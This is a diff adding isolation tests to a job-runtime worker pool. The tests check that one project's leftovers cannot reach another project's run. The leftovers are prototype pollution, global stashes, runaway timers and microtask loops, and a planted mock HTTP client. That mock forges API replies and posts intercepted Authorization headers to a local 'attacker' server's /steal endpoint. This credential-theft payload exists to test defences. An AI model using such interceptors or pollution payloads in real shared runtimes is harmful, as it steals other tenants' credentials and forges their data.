@@ -8,6 +8,8 @@
 
 import { randomUUID } from 'node:crypto';
 import { rmSync, writeFileSync } from 'node:fs';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { ErrorType, ExitReason, PlanOptions, RunResult, State } from '@lightning/runtime';
@@ -52,20 +54,27 @@ interface Attempt {
   options?: PlanOptions;
 }
 
-/** Run `body` as a job; check the stream and that no secret leaked into it. */
+/**
+ * Run `body` as a job; check the stream and that no secret leaked into it. Runs are of one
+ * project unless `projectId` says otherwise, so that they may share a child: what one leaves
+ * behind, the next of the same project would meet.
+ */
 async function attempt(
   body: string,
   options: PlanOptions = {},
-  runOptions: PoolRunOptions & { credentialId?: string } = {},
+  runOptions: PoolRunOptions & { credentialId?: string; projectId?: string; input?: State } = {},
 ): Promise<RunResult> {
   const recorder = recordEvents();
   const result = await pool.run(
-    jobPlan(
-      body,
-      { run_timeout_ms: 5000, ...options },
-      runOptions.credentialId ? { credential_id: runOptions.credentialId } : {},
-    ),
-    { data: {} },
+    {
+      ...jobPlan(
+        body,
+        { run_timeout_ms: 5000, ...options },
+        runOptions.credentialId ? { credential_id: runOptions.credentialId } : {},
+      ),
+      project_id: runOptions.projectId ?? 'project-escape',
+    },
+    runOptions.input ?? { data: {} },
     { ...runOptions, onEvent: recorder.onEvent },
   );
   expectWellFormed(recorder.events);
@@ -329,11 +338,14 @@ describe('what one run leaves behind for the next', () => {
     expect(trap.reason).toBe('success');
     const recorder = recordEvents();
     const victim = await pool.run(
-      jobPlan(
-        'fn(s => ({ ...s, data: { ok: true, buf: Buffer.from("a") } }))',
-        {},
-        { credential_id: 'c' },
-      ),
+      {
+        ...jobPlan(
+          'fn(s => ({ ...s, data: { ok: true, buf: Buffer.from("a") } }))',
+          {},
+          { credential_id: 'c' },
+        ),
+        project_id: 'project-escape',
+      },
       { data: {} },
       {
         onEvent: recorder.onEvent,
@@ -356,3 +368,155 @@ describe('what one run leaves behind for the next', () => {
     });
   });
 });
+
+describe('cross-run effects: what a run of one project leaves behind never reaches a run of another', () => {
+  // A real API the innocent run calls with its credential, and the attacker's collector.
+  let api: Server;
+  let attacker: Server;
+  let apiUrl = '';
+  let attackerUrl = '';
+  const apiSaw: string[] = [];
+  const attackerSaw: string[] = [];
+
+  beforeAll(async () => {
+    api = createServer((req, res) => {
+      apiSaw.push(String(req.headers.authorization));
+      res.setHeader('content-type', 'application/json');
+      res.end(JSON.stringify({ records: [1, 2, 3] }));
+    });
+    attacker = createServer((req, res) => {
+      let body = '';
+      req.on('data', (chunk) => {
+        body += chunk;
+      });
+      req.on('end', () => {
+        attackerSaw.push(`${req.url} ${JSON.stringify(req.headers)} ${body}`);
+        res.end('{}');
+      });
+    });
+    apiUrl = await listen(api);
+    attackerUrl = await listen(attacker);
+  });
+
+  afterAll(() => {
+    api?.closeAllConnections();
+    api?.close();
+    attacker?.closeAllConnections();
+    attacker?.close();
+  });
+
+  /** What the innocent run reports about its realm; all null when nothing reached it. */
+  const probe = `{
+    global: globalThis.stash ?? globalThis[Symbol.for('lightning.stash')] ?? null,
+    object: ({}).stash ?? null,
+    buffer: Buffer.from('x').stash ?? null,
+    url: new URL('http://x').stash ?? null,
+    lodash: _.templateSettings.stash ?? null,
+  }`;
+  const clean = { global: null, object: null, buffer: null, url: null, lodash: null };
+
+  const leftovers: Record<string, string> = {
+    'adaptor internals: a mock HTTP client registered in the adaptor (undici MockAgent)': 'MOCK',
+    'globalThis additions': `globalThis.stash = 'A';
+      globalThis[Symbol.for('lightning.stash')] = 'A';
+      fn(s => { globalThis.stash = 'A'; return s; })`,
+    'prototype changes of host objects': `fn(s => {
+      Buffer.prototype.stash = 'A';
+      URL.prototype.stash = 'A';
+      try { Object.getPrototypeOf(Object.getPrototypeOf(fn)).stash = 'A'; } catch {}
+      return s;
+    })`,
+    timers: `fn(s => {
+      setInterval(() => console.log('A is still here'), 1);
+      setTimeout(() => console.log('A is still here'), 50);
+      return s;
+    })`,
+    'unresolved promises and an endless microtask loop': `fn(s => {
+      new Promise(() => {});
+      globalThis.later = new Promise(resolve => setTimeout(resolve, 60000));
+      (async () => { for (;;) await null })();
+      return s;
+    })`,
+    'caches in node_modules dependencies of adaptors (lodash settings)': `fn(s => {
+      _.templateSettings.stash = 'A';
+      return s;
+    })`,
+  };
+
+  it.each(Object.entries(leftovers))('%s', async (_name, body) => {
+    const projectA = `project-a-${randomUUID()}`;
+    const projectB = `project-b-${randomUUID()}`;
+    apiSaw.length = 0;
+    attackerSaw.length = 0;
+    const theft =
+      body === 'MOCK'
+        ? `fn(s => {
+            const mock = util.enableMockClient(${JSON.stringify(apiUrl)});
+            mock.intercept({ path: () => true, method: 'GET' }).reply(opts => {
+              http.post(${JSON.stringify(`${attackerUrl}/steal`)}, { headers: opts.headers })(s).catch(() => {});
+              return {
+                statusCode: 200,
+                data: JSON.stringify({ records: ['forged'] }),
+                responseOptions: { headers: { 'content-type': 'application/json' } },
+              };
+            }).persist();
+            return s;
+          })`
+        : body;
+    const first = await attempt(theft, {}, { projectId: projectA });
+    expect(first.reason).toBe('success');
+
+    if (body === 'MOCK') {
+      // The trap is real: a later run of project A itself (whose editors wrote it) meets it
+      // (its copy to the attacker may be cut short: the child is retired with it in flight).
+      const own = await attempt(
+        `fn(s => http.get(${JSON.stringify(`${apiUrl}/records`)}, { headers: { Authorization: 'Bearer own' } })(s))`,
+        {},
+        { projectId: projectA },
+      );
+      expect(own.final_state, JSON.stringify(own)).toMatchObject({
+        data: { records: ['forged'] },
+      });
+      expect(apiSaw).toEqual([]);
+      apiSaw.length = 0;
+    }
+
+    const secret = `Bearer ${credentialSecret}`;
+    const recorder = recordEvents();
+    const innocent = await pool.run(
+      {
+        ...jobPlan(
+          `fn(async s => {
+            const answer = await http.get(${JSON.stringify(`${apiUrl}/records`)}, {
+              headers: { Authorization: 'Bearer ' + s.configuration.token },
+            })(s);
+            return { data: { n: s.data.n * 2, records: answer.data.records, probe: ${probe} } };
+          })`,
+          { run_timeout_ms: 10_000 },
+          { credential_id: 'api' },
+        ),
+        project_id: projectB,
+      },
+      { data: { n: 21 } },
+      {
+        onEvent: recorder.onEvent,
+        loadCredential: async () => ({ token: credentialSecret }) as State,
+      },
+    );
+    expect(innocent.reason, JSON.stringify(innocent)).toBe('success');
+    expect(innocent.final_state).toEqual({
+      data: { n: 42, records: [1, 2, 3], probe: clean },
+    });
+    // The request reached the real API, with its credential, and nobody else saw it.
+    expect(apiSaw).toEqual([secret]);
+    // (A copy of project A's own request may still arrive late; the victim's never does.)
+    expect(attackerSaw.join('\n')).not.toContain(credentialSecret);
+    expect(recorder.text()).not.toContain('A is still here');
+    expect(recorder.text()).not.toContain(credentialSecret);
+  });
+});
+
+async function listen(server: Server): Promise<string> {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
+}
